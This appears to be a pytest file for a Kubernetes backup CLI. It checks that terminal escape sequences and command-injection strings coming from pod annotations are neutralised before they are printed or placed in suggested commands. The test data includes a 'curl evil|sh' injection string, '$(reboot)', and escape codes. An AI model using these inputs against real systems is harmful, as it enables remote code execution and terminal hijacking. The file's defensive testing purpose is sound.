"""Whatever an app, a sidecar or an annotation says, the terminal stays the person's own."""

import io
import sys
from collections.abc import Callable

import pytest

from kubectl_backup.commands.status import rows
from kubectl_backup.doctor import workload_checks
from kubectl_backup.doctor.findings import Facts
from kubectl_backup.output import draw
from kubectl_backup.output.terminal import DeclinedError, Terminal
from tests.kubectl_backup.pods import Json, known, pod

ESCAPE = "\x1b]0;owned\x07\x1b[2J\x9b31m\u202e"
_TERMINAL = Terminal(80, paint=True, asks=True)


def _is_harmless(text: str) -> bool:
    return not set("\x1b\x07\x9b\u202e") & set(text)


@pytest.mark.parametrize("width", [None, 40, 200])
@pytest.mark.parametrize("wide", [True, False])
def test_text_of_a_sidecar_does_not_control_the_terminal(wide: bool, width: int | None) -> None:
    said: Json = known(host=ESCAPE, schedule=ESCAPE, problems=[ESCAPE])
    said["last"] = {**said["last"], "status": f"{ESCAPE}success", "message": ESCAPE}
    row = rows.row(pod(), said, "", 0)

    made = rows.table([row], 0, namespaces=True, wide=wide)
    shown = draw.table(made, width, paint=False)

    assert "?]0;owned?" in "\n".join(shown)
    assert _is_harmless("\n".join(shown))


def _say() -> None:
    _TERMINAL.say(ESCAPE)


def _tell() -> None:
    _TERMINAL.tell(ESCAPE)


def _ask() -> None:
    with pytest.raises(DeclinedError):
        _TERMINAL.confirm(ESCAPE, yes=False)


@pytest.mark.parametrize("write", [_say, _tell, _ask])
def test_no_line_controls_the_terminal(
    write: Callable[[], None],
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(sys, "stdin", io.StringIO("no\n"))

    write()

    written = capsys.readouterr()
    assert "?]0;owned?" in written.out + written.err
    assert _is_harmless(written.out + written.err)


def test_our_own_colours_are_kept(capsys: pytest.CaptureFixture[str]) -> None:
    _TERMINAL.say(f"bad {ESCAPE}", "red")

    written = capsys.readouterr().out
    assert written.startswith("\x1b[")
    assert written.count("\x1b") == 2  # where the colour begins, and where it ends


@pytest.mark.parametrize(
    "name", ["x;curl${IFS}evil|sh;#", "$(reboot)", "`id`", "a b", "--all", "a\nb", f"a{ESCAPE}", ""]
)
def test_an_invalid_secret_name_is_in_no_command(name: str) -> None:
    """The annotation is the app's; an administrator pastes what doctor tells."""
    annotated = pod(annotations={"backup.enabled": "true", "backup.secret": name})
    facts = Facts(0, "prod", workload="wiki", pods=(annotated,), secret=name, keys={})

    found = [*workload_checks._secret(facts), workload_checks._password(facts)]

    told = " ".join(text for each in found for text in (each.text, each.remedy))
    assert "is not a name of a Secret" in told
    assert not name or name not in told
    assert _is_harmless(told)
